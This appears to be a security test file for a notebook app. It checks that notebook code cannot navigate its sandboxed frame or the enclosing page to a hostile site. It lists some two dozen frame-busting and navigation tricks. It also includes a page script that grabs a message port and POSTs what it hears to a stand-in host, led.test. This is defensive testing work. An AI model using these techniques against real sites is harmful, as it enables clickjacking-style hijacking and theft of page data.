import { expect, test } from './attack.ts';
import { notebookFrame } from './portSteal.ts';

const EVIL = 'https://led.test/x.html';

/** Code by which a notebook would put another page into its frame, or into the whole window. */
const WAYS: Readonly<Record<string, string>> = {
  location: `location.href = '${EVIL}'`,
  'location-replace': `location.replace('${EVIL}')`,
  'open-self': `window.open('${EVIL}', '_self')`,
  'open-parent': `window.open('${EVIL}', '_parent')`,
  'open-top': `window.open('${EVIL}', '_top')`,
  'top-location': `top.location.href = '${EVIL}'`,
  'parent-location': `parent.location.replace('${EVIL}')`,
  'parent-script': "parent.location.href = 'javascript:globalThis.attackRan=[1]'",
  'parent-hash': "parent.location.hash = '#cells/tour'",
  link: `const a = document.createElement('a'); a.href = '${EVIL}'; document.body.append(a); a.click()`,
  'link-top': `const a = document.createElement('a'); a.href = '${EVIL}'; a.target = '_top'; document.body.append(a); a.click()`,
  'svg-link': `document.body.insertAdjacentHTML('beforeend', '<svg><a href="${EVIL}"><text>x</text></a></svg>'); document.querySelector('svg a').dispatchEvent(new MouseEvent('click', { bubbles: true }))`,
  form: `const form = document.createElement('form'); form.action = '${EVIL}'; document.body.append(form); form.submit()`,
  'form-top': `const form = document.createElement('form'); form.action = '${EVIL}'; form.target = '_top'; document.body.append(form); form.submit()`,
  'form-post': `const form = document.createElement('form'); form.action = '${EVIL}'; form.method = 'post'; document.body.append(form); form.requestSubmit()`,
  refresh: `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=${EVIL}">')`,
  written: `document.open(); document.write('<meta http-equiv="refresh" content="0;url=${EVIL}">'); document.close()`,
  'navigation-api': `navigation.navigate('${EVIL}')`,
  data: "location.href = 'data:text/html,<script>fetch(`https://led.test/data`)</script>'",
  blob: `location.href = URL.createObjectURL(new Blob(['<meta http-equiv="refresh" content="0;url=${EVIL}">'], { type: 'text/html' }))`,
  speculated: `document.head.insertAdjacentHTML('beforeend', ''); const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = '{"prerender":[{"urls":["${EVIL}"]}],"prefetch":[{"urls":["${EVIL}"]}]}'; document.head.append(s)`,
  'frame-within': `const f = document.createElement('iframe'); f.src = '${EVIL}'; document.body.append(f)`,
  'frame-srcdoc': `const f = document.createElement('iframe'); f.srcdoc = '<meta http-equiv="refresh" content="0;url=${EVIL}">'; document.body.append(f)`,
  'nested-sandbox-top': `const f = document.createElement('iframe'); f.sandbox = 'allow-scripts allow-top-navigation allow-same-origin'; f.srcdoc = '<script>top.location = "${EVIL}"<' + '/script>'; document.body.append(f)`,
  'site-in-itself': "location.href = new URL('index.html#cells/tour', location.href).href",
};

/** A page that asks whoever holds it for a notebook's port, and tells what it gets by it. */
const ASKING = `<!doctype html><script>
addEventListener('message', ({ ports: [port] }) => {
  if (!port) return;
  fetch('https://led.test/got-a-port');
  port.onmessage = ({ data }) => fetch('https://led.test/heard', { method: 'POST', body: JSON.stringify(data) });
  for (const method of ['settings', 'opened']) {
    port.postMessage({ id: method, method, args: [] });
    port.postMessage({ id: method, type: 'APPLY', path: [method], argumentList: [] });
  }
});
for (const to of [parent, top, opener]) to?.postMessage('skybook:frame-ready', '*');
</script>`;

test('a notebook’s frame, and the page around it, can be led nowhere', async ({ target }) => {
  target.internet.serve(EVIL, { type: 'text/html', body: ASKING });
  const cells = [{ id: 'a', type: 'module', text: 'const ready = 1;' }] as const;
  const open = async () => {
    await target.page.goto('about:blank');
    await target.openCells(cells);
    await target.runToEnd();
  };
  await open();
  const led: string[] = [];
  for (const [name, code] of Object.entries(WAYS)) {
    const address = target.page.url();
    const heard = target.internet.heard.length;
    // As a notebook's own code would: its policy counts.
    await notebookFrame(target)
      .evaluate((text) => void setTimeout(() => (0, eval)(`(() => { ${text} })()`), 0), code)
      .catch(() => undefined);
    await target.settle();
    const told = target.internet.heard
      .slice(heard)
      .filter(({ host }) => host === 'led.test')
      .map(({ path }) => path);
    const faults = [...told, ...(target.page.url() === address ? [] : ['the page has gone'])];
    if (faults.length > 0) led.push(`${name}: ${faults.join(' ')}`);
    // A notebook may make its own frame useless.
    const isWhole = await notebookFrame(target)
      ?.evaluate(() => !!document.querySelector('[data-cell="a"]'))
      .catch(() => false);
    if (!isWhole || faults.length > 0) await open();
  }
  expect(led).toEqual([]);
  await target.expectUntouched();
});

test('nor can that of a notebook of the reader’s own, by what it shows', async ({ target }) => {
  target.internet.serve(EVIL, { type: 'text/html', body: ASKING });
  await target.openOwn([
    {
      id: 'a',
      type: 'text/markdown',
      text: `<svg width="90" height="30"><a xlink:href="${EVIL}"><text y="20">press me</text></a></svg>`,
    },
  ]);
  const bait = target.output('a').getByText('press me');
  if (await bait.isVisible()) await bait.click();
  await target.settle();
  expect
    .soft(
      target.internet.heard
        .filter(({ host, headers }) => host === 'led.test' && headers['sec-fetch-dest'] !== 'document')
        .map(({ path }) => path),
    )
    .toEqual([]);
  await Promise.all(target.windows.map((window) => window.close()));
  target.windows.length = 0;
  await target.expectUntouched();
});
